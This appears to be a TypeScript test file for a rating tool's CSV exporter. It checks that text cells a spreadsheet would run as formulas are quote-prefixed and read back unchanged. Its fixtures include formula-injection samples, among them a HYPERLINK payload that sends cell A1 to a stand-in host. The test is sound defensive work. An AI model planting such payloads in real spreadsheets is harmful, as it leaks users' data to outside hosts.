/**
 * CSV exports neutralise text cells a spreadsheet would run as a formula (OWASP: a leading quote),
 * leave numbers alone, and BlindRate reads its own CSV back to the original text.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { buildDemoStudy } from '../../../electron/services/demo';
import { exportTable } from '../../../electron/services/exporter';
import { importFiles } from '../../../electron/services/importer';
import { openStudy } from '../../../electron/services/study';
import { parseTidyRatingsCsv } from '../../../electron/services/tidy-ratings-csv';
import { readTidyRatingRows } from '../../../electron/services/tidy-ratings';
import { csvRecords } from '../../../shared/csv';
import { TIDY_FIXED_COLUMNS, TIDY_REQUIRED_COLUMNS } from '../../../shared/analysis';
import { isExportHeader, neutraliseFormulaText, restoreFormulaText } from '../../../shared/text/spreadsheet-cell';
import { simulateRatings } from '../analysis/simulate-ratings';
import { fixedClock, freshFolder, freshStudy, PASSPHRASE } from '../engine/helpers';

const HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A1,"click")';
const TRIGGERS = [HYPERLINK, '+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd', "'=already quoted", "''+twice"];

describe('neutraliseFormulaText', () => {
  it('prefixes a quote to text starting with = + - @ tab or CR (after any quotes), and restores it', () => {
    for (const text of TRIGGERS) {
      expect(neutraliseFormulaText(text)).toBe(`'${text}`);
      expect(restoreFormulaText(neutraliseFormulaText(text))).toBe(text);
    }
    for (const text of ['plain', "'quoted", '', ' =space first', '1+1']) {
      expect(neutraliseFormulaText(text)).toBe(text);
      expect(restoreFormulaText(text)).toBe(text);
    }
  });
});

describe('isExportHeader', () => {
  const fixed = ['item_id', 'model', 'output', 'question', 'context', 'reference', 'category', 'source_id'];
  const always = fixed.slice(0, 7);
  it("knows BlindRate's export headers, of this release and of earlier ones, and nothing else", () => {
    expect(isExportHeader([...fixed, 'score_rougeL'], fixed, always)).toBe(true);
    expect(isExportHeader(always, fixed, always)).toBe(true); // before source_id existed
    expect(isExportHeader(['', 'Generated Text', 'Actual Text'], fixed, always)).toBe(false); // pandas
    expect(isExportHeader(['model', 'item_id', ...fixed.slice(2)], fixed, always)).toBe(false);
    expect(isExportHeader([...fixed, 'score_rougeL', 'note'], fixed, always)).toBe(false);
    expect(isExportHeader(fixed.slice(0, 6), fixed, always)).toBe(false);
  });
});

describe('csvRecords', () => {
  const tidy = { fixed: TIDY_FIXED_COLUMNS, alwaysWritten: TIDY_REQUIRED_COLUMNS };
  it('takes the quote off in a tidy export as this or an earlier release wrote it, and only there', () => {
    const olderRelease = 'rater,item_id,model,task,qc,dimension,value,bin,presented_position,duration_ms,rated_at\n';
    const row = "'=dr,'-q,m,rating,,safety,1,,,,\n";
    expect(csvRecords(olderRelease + row, 'old.csv', tidy)[1]!.cells.slice(0, 2)).toEqual(['=dr', '-q']);
    const current = `${TIDY_FIXED_COLUMNS.join(',')}\n'=dr,'-q\n`;
    expect(csvRecords(current, 'new.csv', tidy)[1]!.cells).toEqual(['=dr', '-q']);
    const someoneElses = `item_id,rater,model,dimension,value\n${row}`;
    expect(csvRecords(someoneElses, 'other.csv', tidy)[1]!.cells.slice(0, 2)).toEqual(["'=dr", "'-q"]);
  });
});

describe('CSV exports', () => {
  it('quote formula-like text in outputs, keep negative scores numeric, and import back to the same study', async () => {
    const { db, folder } = freshStudy();
    const lines = TRIGGERS.map((text, i) =>
      JSON.stringify({
        item_id: `-${i}`,
        model: HYPERLINK,
        output: text,
        question: `@q${i}`,
        reference: '=ref',
        scores: { rougeL: -0.5 - i },
      }),
    );
    const source = join(folder, 'outputs.jsonl');
    writeFileSync(source, `${lines.join('\n')}\n`);
    await importFiles(db, [source], { clock: fixedClock });

    const csv = join(folder, 'outputs.csv');
    await exportTable(db, { what: 'outputs', format: 'csv', out: csv });
    const [header, ...rows] = parse(readFileSync(csv, 'utf8')) as string[][];
    const textColumns = ['item_id', 'model', 'output', 'question', 'reference'].map((c) => header!.indexOf(c));
    for (const row of rows) {
      for (const i of textColumns) expect(row[i], `${header![i]} cell`).toMatch(/^'/);
      expect(Number(row[header!.indexOf('score_rougeL')])).toBeLessThan(0);
    }

    const again = freshStudy();
    await importFiles(again.db, [csv], { clock: fixedClock });
    const jsonl = async (which: typeof db, out: string) => {
      await exportTable(which, { what: 'outputs', format: 'jsonl', out });
      return readFileSync(out, 'utf8');
    };
    const original = await jsonl(db, join(folder, 'a.jsonl'));
    expect(original).toContain(JSON.stringify(HYPERLINK));
    expect(await jsonl(again.db, join(folder, 'b.jsonl'))).toBe(original);
    db.close();
    again.db.close();
  });

  it('quote formula-like rater and model names in ratings and audit, and analyze reads them back unchanged', async () => {
    const folder = freshFolder();
    const path = join(folder, 'demo.db');
    await buildDemoStudy(path, PASSPHRASE, fixedClock);
    const db = openStudy(path, PASSPHRASE);
    simulateRatings(db);
    db.prepare("UPDATE raters SET name = ? WHERE name = 'dr.adams'").run(HYPERLINK);
    db.prepare('UPDATE outputs SET model = ? WHERE model = (SELECT min(model) FROM outputs)').run('-model');

    for (const what of ['ratings', 'ratings-wide', 'audit', 'sample'] as const) {
      const out = join(folder, `${what}.csv`);
      await exportTable(db, { what, format: 'csv', out });
      const cells = (parse(readFileSync(out, 'utf8')) as string[][]).flat();
      expect(
        cells.filter((c) => /^[=+\-@\t\r]/.test(c)),
        what,
      ).toEqual([]);
    }
    const ratingsCsv = join(folder, 'ratings.csv');
    expect(readFileSync(ratingsCsv, 'utf8')).toContain(`'${HYPERLINK.replaceAll('"', '""')}`);
    const fromCsv = parseTidyRatingsCsv(readFileSync(ratingsCsv, 'utf8'), 'ratings.csv').rows;
    expect(fromCsv).toEqual(readTidyRatingRows(db));
    expect(fromCsv.some((r) => r.rater === HYPERLINK) && fromCsv.some((r) => r.model === '-model')).toBe(true);
    db.close();
  });
});
